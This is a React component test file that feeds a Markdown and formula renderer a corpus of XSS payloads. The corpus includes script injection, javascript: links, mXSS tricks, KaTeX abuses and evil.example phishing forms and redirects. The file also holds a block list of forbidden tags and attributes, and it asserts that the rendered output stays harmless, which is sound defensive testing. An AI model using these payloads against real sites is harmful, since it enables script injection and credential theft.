// @vitest-environment jsdom
import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { BlockText } from "./block-text";
import { BlockCard } from "./block-card";
import { parseGrounding } from "@/lib/domain/grounding";

afterEach(cleanup);

/** What has broken Markdown viewers, from OWASP's filter evasion list and the known holes of sanitisers. */
const CORPUS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='jav&#x09;ascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "![x](https://evil.example/pixel.png)",
  "![x](javascript:alert(1))",
  "<table><tr><td onclick=alert(1) style='background:url(javascript:alert(1))'>x</td></tr></table>",
  "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<object data=x></object><embed src=x>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<div id=__next style=position:fixed>x</div>",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  "$\\htmlData{onclick=alert(1)}{x}$",
  "$$\\def\\a{\\a\\a}\\a$$",
  "<!--><img src=x onerror=alert(1)>-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "`<img src=x onerror=alert(1)>`",
  "<a href='//evil.example' target=_self>x</a>",
];

const FORBIDDEN = "script, img, iframe, object, embed, form, input, button, style, link, meta, base, video, audio, source, svg [onload]";

function assertHarmless(root: HTMLElement): void {
  expect(root.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  for (const element of root.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^srcdoc$|^formaction$|^background$/);
      if (name === "href" || name === "src") expect(value).toMatch(/^(https?:|mailto:|#|\/\/)/);
      if (name === "id") expect(value).not.toBe("__next");
    }
  }
  for (const link of root.querySelectorAll("a[href]")) expect(link.getAttribute("rel")).toContain("noopener");
}

describe("text from a document", () => {
  it.each(CORPUS)("runs and loads nothing: %s", (text) => {
    for (const label of ["text", "table", "formula", "code", "title"]) {
      const { container, unmount } = render(<BlockText label={label} text={text} />);
      assertHarmless(container);
      unmount();
    }
  });

  it("keeps tables with their spans, lists, code and formulas", () => {
    const { container } = render(<BlockText label="table" text={'<table><tr><th rowspan="2" colspan="3">**Item**</th></tr></table>\n\n- one\n\n$x^2$'} />);
    expect(container.querySelector("th")).toMatchObject({ rowSpan: 2, colSpan: 3 });
    expect(container.querySelector("li")?.textContent).toContain("one");
    expect(container.querySelector(".katex")).not.toBeNull();
  });

  it("sets code as it is written", () => {
    const { container } = render(<BlockText label="code" text={"```\nif (a < b) { **x** }\n```"} />);
    expect(container.querySelector("pre")?.textContent).toBe("if (a < b) { **x** }");
  });

  it("is harmless in labels, which are text too", () => {
    const [block] = parseGrounding("![image](1,1,900,900) <img src=x onerror=alert(1)>");
    if (!block) throw new Error("there is a block");
    const { container, getByText } = render(<BlockCard block={{ ...block, label: "<img src=x onerror=alert(1)>" }} isSelected={false} isHovered={false} isOneOfMany={false} hover={() => undefined} select={() => undefined} />);
    expect(container.querySelectorAll("img")).toHaveLength(0);
    expect(getByText(/1 <img src=x/)).toBeTruthy();
  });
});
